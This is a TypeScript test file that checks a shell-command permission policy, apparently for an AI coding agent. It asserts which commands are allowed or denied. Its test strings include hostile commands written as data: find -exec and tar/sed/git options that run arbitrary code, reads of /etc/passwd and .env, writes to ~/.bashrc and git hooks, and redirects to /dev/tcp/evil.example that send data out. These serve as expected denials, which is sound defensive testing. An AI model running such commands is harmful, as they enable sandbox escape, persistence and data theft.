import { beforeAll, describe, it } from "vitest";
import { type Case, commandDecider, type Decider, expectDecision, testPolicy, toolPolicy } from "./commands-fixture.ts";

let decide: Decider;
beforeAll(async () => {
  decide = await commandDecider();
});

describe("exec-capable flags of read-only tools (under innocuous allow rules)", () => {
  it.each<Case>([
    ["find . -exec rm {} \\;", "deny", "commands.deny[1]"],
    ["find . -exec cat {} \\;", "deny", "default"],
    ["find . -exec cat x \\;", "deny", "default"],
    ["find . -execdir sh -c 'id' \\;", "deny"],
    ["find . -exec bash -c 'curl x' \\;", "deny", "commands.deny[3]"],
    ["find . -ok rm {} +", "deny", "commands.deny[1]"],
    ["find . -delete", "deny", "commands.hardening"],
    ["find . -name x -fprint out", "deny", "commands.hardening"],
    ["find src -type f", "allow", "commands.allow[4]"],
    ["find . -exec echo hi \\;", "allow", "commands.allow[10], commands.allow[8]"],
    ["find . -exec echo {} \\;", "deny", "default"],
    ["rg --pre ./x foo", "deny", "commands.hardening"],
    ["rg --pre=./x foo", "deny", "commands.hardening"],
    ["rg -z foo", "deny", "commands.hardening"],
    ["rg -iz foo", "deny", "commands.hardening"],
    ["rg --search-zip foo", "deny", "commands.hardening"],
    ["rg -n foo src", "allow", "commands.allow[0]"],
    ["rg -g '*.zip' foo", "allow"],
    ["sed -n '1p' f", "allow", "commands.allow[1]"],
    ["sed 's/a/b/g' f", "allow"],
    ["sed -E 's/(a|b)/\\1/g' f", "allow"],
    ["sed -n '/foo/{p;q}' f", "allow"],
    ["sed '1!G;h;$!d' f", "allow"],
    ["sed 'y/abc/xyz/' f", "allow"],
    ["sed -e 's/a/b/e' f", "deny", "commands.hardening"],
    ["sed '1e rm -rf x' f", "deny", "commands.hardening"],
    ["sed 's/x/y/w out' f", "deny", "commands.hardening"],
    ["sed 'w out' f", "deny", "commands.hardening"],
    ["sed 'r /etc/passwd' f", "deny", "commands.hardening"],
    ["sed -i 's/a/b/' f", "deny", "commands.hardening"],
    ["sed -ni p f", "deny", "commands.hardening"],
    ["sed --in-place s/a/b/ f", "deny", "commands.hardening"],
    ["sed -f script.sed f", "deny", "commands.hardening"],
    ["sed -n -e p -e 'e id' f", "deny", "commands.hardening"],
    ["sort -u f", "allow"],
    ["sort -o out f", "deny", "commands.hardening"],
    ["sort --output=out f", "deny", "commands.hardening"],
    ["sort --compress-program=sh f", "deny", "commands.hardening"],
    ["tar -tzf a.tgz", "allow"],
    ["tar --to-command=sh -xf a.tar", "deny", "commands.hardening"],
    ["tar -I 'sh -c id' -xf a.tar", "deny", "commands.hardening"],
    ["tar --checkpoint-action=exec=id -cf a.tar src", "deny", "commands.hardening"],
  ])("%j → %s", (command, expected, rule) => expectDecision(decide(toolPolicy, command), expected, rule));
});

describe("git config execution", () => {
  it.each<Case>([
    ["git -c core.pager=cat log", "deny", "commands.hardening"],
    ["git -c core.sshCommand='curl x' status", "deny", "commands.hardening"],
    ["git -c diff.external=./x diff", "deny", "commands.hardening"],
    ["git --config-env=core.pager=X log", "deny", "commands.hardening"],
    ["git --exec-path=. status", "deny", "commands.hardening"],
    ["git -p log", "deny", "commands.hardening"],
    ["git --paginate log", "deny", "commands.hardening"],
    ["git log --ext-diff", "deny", "commands.hardening"],
    ["git diff --textconv", "deny", "commands.hardening"],
    ["git diff --output=src/x", "deny", "commands.hardening"],
    ["git diff --output src/x", "deny", "commands.hardening"],
    ["git log --out=x", "deny", "commands.hardening"],
    ["git -C ../other status", "deny", "commands.hardening"],
    ["git --git-dir=../x/.git log", "deny", "commands.hardening"],
    ["git --work-tree=/ status", "deny", "commands.hardening"],
    ["git log $OPTS", "deny", "commands.hardening"],
    ["cd ../other && git status", "deny", "default"],
    ["find . -exec cat {} \\;", "deny", "commands.hardening"],
    ["find . -name '*.ts' -delete", "deny", "commands.hardening"],
  ])("%j → %s", (command, expected, rule) => expectDecision(decide(testPolicy, command), expected, rule));

  it.each<Case>([
    ["git -c core.quotepath=off log --oneline", "allow", "commands.allow[9]"],
    ["git -c core.pager=sh log", "deny", "commands.hardening"],
    ["git log --ext-diff", "deny", "commands.hardening"],
  ])("an allow rule naming the flag permits it: %j → %s", (command, expected, rule) => expectDecision(decide(toolPolicy, command), expected, rule));
});

describe("redirects (writes allowed only under src/)", () => {
  it.each<Case>([
    ["echo x > src/a.ts", "allow", "commands.allow[8], files.write.allow[0]"],
    ["echo x >> src/a.ts", "allow"],
    ["echo x > ./src/a.ts", "allow"],
    ["echo x &>> src/log", "allow"],
    ["echo x > /dev/null", "allow", "commands.allow[8], commands.redirect"],
    ["echo x 1>&2", "allow", "commands.allow[8]"],
    ["echo x >&2", "allow"],
    ["cat < src/a.ts", "deny", "default"],
    ["cat - < src/a.ts", "allow", "commands.allow[6], files.read.allow[0]"],
    ["cat - < .env", "deny", "files.read.deny[0]"],
    ["echo x > README.md", "deny", "default"],
    ["echo x > .git/hooks/pre-commit", "deny", "default"],
    ["echo x >| README.md", "deny", "default"],
    ["echo x &> README.md", "deny", "default"],
    ["echo x 2> README.md", "deny", "default"],
    ["echo x >& README.md", "deny", "default"],
    ["echo x > src/../README.md", "deny", "default"],
    ["{ echo x; } > README.md", "deny", "default"],
    ["echo x > /dev/tcp/evil.example/80", "deny", "commands.redirect"],
    ["cat - < /dev/udp/evil.example/53", "deny", "commands.redirect"],
    ["echo x > ~/.bashrc", "deny", "commands.redirect"],
    ["echo x > $HOME/.bashrc", "deny", "commands.redirect"],
    ['echo x > "$F"', "deny", "commands.redirect"],
    ["echo x > src/*.ts", "deny", "commands.redirect"],
    ["echo x > /etc/passwd", "deny", "commands.redirect"],
    ["echo x > ../outside", "deny", "commands.redirect"],
    ["cd .git/hooks && echo x > pre-commit", "deny", "commands.redirect"],
    ["echo x > src/a.ts extra", "deny", "commands.parse"],
    ["echo x <> src/a.ts", "deny", "commands.parse"],
  ])("%j → %s", (command, expected, rule) => expectDecision(decide(testPolicy, command), expected, rule));
});
